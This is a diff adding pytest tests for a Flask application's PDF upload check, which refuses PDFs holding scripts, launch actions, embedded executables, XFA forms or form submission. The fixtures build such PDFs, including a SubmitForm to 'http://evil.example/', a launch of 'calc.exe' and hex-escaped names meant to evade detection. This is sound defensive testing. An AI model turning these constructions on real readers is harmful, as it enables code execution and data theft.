@@ -1,0 +1,149 @@
+"""A PDF that would do something by itself is refused, in words; one that does not is taken."""
+
+import io
+from collections.abc import Callable
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from flask import Flask
+from flask_babel import force_locale
+from pikepdf import AttachedFileSpec, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String
+
+from crm.catalog import files
+from crm.core.errors import DomainError
+
+Make = Callable[[Pdf], Any]
+
+
+def script() -> Dictionary:
+    """An object belongs to one document, so each gets its own."""
+    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
+
+
+def saved(make: Make, **how: Any) -> bytes:
+    """A PDF of one page that `make` changed."""
+    with Pdf.new() as document:
+        document.add_blank_page(page_size=(210, 297))
+        make(document)
+        buffer = io.BytesIO()
+        document.save(buffer, **how)
+    return buffer.getvalue()
+
+
+def at_opening(document: Pdf) -> None:
+    document.Root.OpenAction = script()
+
+
+def of_the_names(document: Pdf) -> None:
+    names = Dictionary(Names=[String("a"), document.make_indirect(script())])
+    document.Root.Names = Dictionary(JavaScript=names)
+
+
+def of_a_page(document: Pdf) -> None:
+    document.pages[0].obj.AA = Dictionary(O=script())
+
+
+def after_another_action(document: Pdf) -> None:
+    first = Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit], Next=[script()])
+    document.Root.OpenAction = first
+
+
+def launch(document: Pdf) -> None:
+    link = Dictionary(
+        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
+        A=Dictionary(S=Name.Launch, F=String("calc.exe")),
+    )  # fmt: skip
+    document.pages[0].obj.Annots = [document.make_indirect(link)]
+
+
+def attachment(document: Pdf) -> None:
+    document.attachments["a.exe"] = AttachedFileSpec(document, b"MZ")
+
+
+def attachment_of_a_page(document: Pdf) -> None:
+    file = document.make_stream(b"MZ")
+    note = Dictionary(
+        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9],
+        FS=Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file)),
+    )  # fmt: skip
+    document.pages[0].obj.Annots = [note]
+
+
+def xfa(document: Pdf) -> None:
+    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=[])
+
+
+def submit(document: Pdf) -> None:
+    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))
+
+
+def hidden_by_spelling(content: bytes) -> bytes:
+    """Names may spell any letter by its number (ISO 32000-2, 7.3.5)."""
+    return content.replace(b"/JavaScript", b"/JavaS#63ript").replace(b"/JS", b"/J#53")
+
+
+ACTIVE: dict[str, tuple[Any, str]] = {
+    "a script at opening": (saved(at_opening), "script"),
+    "a script of the names": (saved(of_the_names), "script"),
+    "a script of a page": (saved(of_a_page), "script"),
+    "a script after another action": (saved(after_another_action), "script"),
+    "a script in an object stream": (
+        saved(of_the_names, object_stream_mode=ObjectStreamMode.generate), "script",
+    ),
+    "a script in a locked file": (
+        saved(at_opening, encryption=Encryption(owner="x", user="", R=6)), "script",
+    ),
+    "a script spelt otherwise": (hidden_by_spelling(saved(at_opening)), "script"),
+    "a program": (saved(launch), "launch"),
+    "data sent": (saved(submit), "launch"),
+    "a file": (saved(attachment), "files"),
+    "a file of a page": (saved(attachment_of_a_page), "files"),
+    "a form": (saved(xfa), "form"),
+}  # fmt: skip
+
+
+def keep(content: bytes) -> files.Stored:
+    return files.keep(SimpleNamespace(filename="Tarif.pdf", stream=io.BytesIO(content)))
+
+
+@pytest.mark.parametrize("name", ACTIVE)
+def test_an_active_pdf_is_refused_in_words(name: str, app: Flask) -> None:
+    content, kind = ACTIVE[name]
+    with app.test_request_context(), pytest.raises(DomainError) as refused:
+        keep(content)
+    assert refused.value.fields["file"] == f"{files.ACTIVE[kind]} {files._PLAIN}"
+
+
+def to_a_page(document: Pdf) -> None:
+    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit])
+
+
+def to_an_address(document: Pdf) -> None:
+    link = Dictionary(
+        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
+        A=Dictionary(S=Name.URI, URI=String("https://acme.example/")),
+    )  # fmt: skip
+    document.pages[0].obj.Annots = [link]
+
+
+def with_a_plain_form(document: Pdf) -> None:
+    box = Dictionary(FT=Name.Tx, T=String("name"), V=String("/JS"), Rect=[0, 0, 9, 9])
+    document.Root.AcroForm = Dictionary(Fields=[document.make_indirect(box)])
+
+
+@pytest.mark.parametrize("make", [to_a_page, to_an_address, with_a_plain_form])
+def test_a_harmless_pdf_is_taken(make: Make, app: Flask) -> None:
+    with app.app_context():
+        assert keep(saved(make)).pages == 1
+
+
+def test_an_active_pdf_is_refused_in_french(app: Flask) -> None:
+    with app.test_request_context(), force_locale("fr"), pytest.raises(DomainError) as refused:
+        keep(saved(at_opening))
+    assert refused.value.fields["file"].startswith("Ce PDF contient un script.")
+
+
+def test_what_pikepdf_cannot_read_is_no_pdf(app: Flask) -> None:
+    with app.app_context(), pytest.raises(DomainError, match="not a valid PDF"):
+        keep(b"%PDF-1.7\n" + b"[" * 100_000)
